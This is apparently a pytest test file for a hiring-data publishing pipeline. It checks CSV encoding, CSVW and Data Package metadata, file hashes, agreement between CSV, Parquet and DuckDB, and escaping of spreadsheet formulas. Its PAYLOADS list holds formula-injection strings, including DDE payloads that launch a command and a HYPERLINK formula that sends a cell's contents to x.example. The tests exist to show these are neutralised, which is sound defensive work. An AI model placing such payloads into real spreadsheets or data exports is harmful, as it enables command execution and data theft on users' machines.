"""What someone who opens a CSV, its metadata or the data package may count on."""

from __future__ import annotations

import csv
import hashlib
import json
from pathlib import Path
from typing import Any

import duckdb

from pipelines.publish import export
from pipelines.publish.files import FORMULA, files
from tests.publish.conftest import ABOUT

VINTAGE = "2026-02-03-0a1b2c3d"


def cells(path: Path) -> list[dict[str, str]]:
    """A CSV's rows, its text as it stands."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def told(path: Path) -> dict[str, Any]:
    """A JSON file."""
    return dict(json.loads(path.read_text(encoding="utf-8")))


def test_no_text_cell_is_a_formula_and_every_number_stays_a_number(published: Path) -> None:
    found = {row["requisition_id"]: row for row in cells(published / "csv" / "requisitions.csv")}
    assert found["a"]["title"] == "'=cmd|' /C calc'!A0"
    assert found["b"]["title"] == "'@SUM(1+1)"
    assert found["g"]["title"] == "'-2 levels"
    assert found["c"]["title"] == 'Engineer, "AI"'
    assert float(found["a"]["points"]) == -1.5


PAYLOADS = (
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "-1.5", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)",
    '=HYPERLINK("https://x.example/?"&A1,"click")', '"=1+1', ',=1+1', 'a","=1+1', 'a\n=1+1', "a\r\n=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip


def test_no_payload_in_a_title_or_an_employer_makes_a_cell_that_begins_as_a_formula(tmp_path: Path) -> None:
    with duckdb.connect(str(tmp_path / "p.duckdb")) as connection:
        connection.execute("create schema published; create schema trends")
        connection.execute(
            "create table published.t (id integer, title varchar, employer varchar, points decimal(18, 6), n bigint)"
        )
        given = [(number, payload, payload, -1.5, -2) for number, payload in enumerate(PAYLOADS)]
        connection.executemany("insert into published.t values (?, ?, ?, ?, ?)", given)
    files(tmp_path / "p.duckdb", tmp_path, ABOUT)
    found = cells(tmp_path / "csv" / "t.csv")
    assert [int(row["id"]) for row in found] == list(range(len(PAYLOADS)))
    for row, payload in zip(found, PAYLOADS, strict=True):
        assert row["title"] == row["employer"] == ("'" + payload if payload[0] in FORMULA else payload)
        assert (row["points"], row["n"]) == ("-1.500000", "-2")
    with duckdb.connect() as connection:
        kept = connection.execute(f"select title from '{tmp_path}/parquet/t.parquet' order by id").fetchall()
    assert [title for (title,) in kept] == list(PAYLOADS)


def test_csv_is_utf8_with_lf_iso_dates_and_empty_for_missing(published: Path) -> None:
    raw = (published / "csv" / "trends" / "demand.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert b"\r" not in raw
    withheld = [row for row in cells(published / "csv" / "trends" / "demand.csv") if row["flag"] == "suppressed"]
    assert {row["month"] for row in withheld} == {"2024-06-01"}
    assert all(row["value"] == row["low"] == row["high"] == "" for row in withheld)
    assert b"nan" not in raw.lower()
    assert b"null" not in raw.lower()
    assert "Ingénieure – π" in (published / "csv" / "requisitions.csv").read_text(encoding="utf-8")


def test_the_two_plain_trends_have_the_promised_columns(published: Path) -> None:
    for name in ("demand", "credential_mismatch"):
        head = (published / "csv" / "trends" / f"{name}.csv").read_text().splitlines()[0]
        assert head == "month,talent_category,value,low,high,noise_floor,n,flag"


def test_a_twin_says_what_each_column_is_in_the_words_of_two_standards(published: Path) -> None:
    twin = told(published / "csv" / "trends" / "demand.metadata.json")
    value = next(field for field in twin["schema"]["fields"] if field["name"] == "value")
    assert value == {
        "name": "value", "type": "number", "description": "Share of the three, it's 0 to 1.", "unit": "share, 0 to 1",
    }  # fmt: skip
    assert twin["@context"] == "http://www.w3.org/ns/csvw"
    assert twin["url"] == twin["path"] == "demand.csv"
    columns = {column["name"]: column["datatype"] for column in twin["tableSchema"]["columns"]}
    assert (columns["month"], columns["value"], columns["n"]) == ("date", "decimal", "integer")
    assert twin["description"] == "How openings divide, the plain trend."
    assert twin["vintage"] == VINTAGE
    assert VINTAGE in twin["citation"]
    assert "provisional" in twin["caveat"]
    assert twin["licenses"][0]["name"] == "CC-BY-4.0"
    assert twin["measures"]["share_of_three"]["you_may_not_say"]


def test_the_data_package_names_each_csv_with_its_true_bytes_and_hash(published: Path) -> None:
    package = told(published / "datapackage.json")
    assert package["$schema"] == "https://datapackage.org/profiles/2.0/datapackage.json"
    assert {each["path"] for each in package["resources"]} == {
        path.relative_to(published).as_posix() for path in (published / "csv").rglob("*.csv")
    }
    kinds = {"string", "number", "integer", "boolean", "date", "datetime"}
    for each in package["resources"]:
        data = (published / each["path"]).read_bytes()
        assert (each["bytes"], each["hash"]) == (len(data), f"sha256:{hashlib.sha256(data).hexdigest()}")
        assert {field["type"] for field in each["schema"]["fields"]} <= kinds
        assert each["name"] == each["name"].lower().replace("_", "-")


def test_csv_parquet_and_database_hold_the_same_rows(published: Path) -> None:
    with duckdb.connect(str(published / "hiregap.duckdb"), read_only=True) as connection:
        held = connection.sql("from published.credentials_by_month").fetchall()
        parquet = connection.sql(f"from '{published}/parquet/credentials_by_month.parquet'").fetchall()
    assert parquet == held
    assert len(cells(published / "csv" / "credentials_by_month.csv")) == len(held)


def test_invented_data_says_so_in_every_description(invented: Path) -> None:
    for path in (invented / "csv").rglob("*.metadata.json"):
        assert told(path)["caveat"].startswith("sandbox: invented data")
    assert told(invented / "datapackage.json")["description"].startswith("sandbox: invented data")


def test_an_export_is_a_whole_data_package(published: Path, tmp_path: Path) -> None:
    export(published, tmp_path / "taken")
    for each in told(tmp_path / "taken" / "datapackage.json")["resources"]:
        assert (tmp_path / "taken" / each["path"]).read_bytes() == (published / each["path"]).read_bytes()
